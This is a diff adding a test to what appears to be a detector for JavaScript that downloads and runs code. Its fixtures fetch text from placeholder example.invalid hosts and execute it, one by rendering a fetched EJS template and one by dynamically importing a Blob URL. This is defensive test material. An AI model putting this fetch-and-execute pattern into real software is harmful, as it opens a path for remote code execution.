@@ -301,3 +301,9 @@ def test_a_fetched_template_runs_the_code_that_it_holds() -> None:
     source = "import ejs from 'ejs';\nconst r = await fetch('https://t.example.invalid/t.ejs');\n"
     assert "javascript-downloaded-execution" in found(f"{source}console.log(ejs.render(await r.text(), {{}}));\n")
     assert "javascript-downloaded-execution" not in found(f"{source}console.log(ejs.render('<%= 1 %>', r));\n")
+
+
+def test_an_import_of_a_fetched_text_runs_it() -> None:
+    source = "const t = await (await fetch('https://m.example.invalid/m')).text();\n"
+    source += "await import(URL.createObjectURL(new Blob([t])));\n"
+    assert "javascript-downloaded-execution" in found(source)
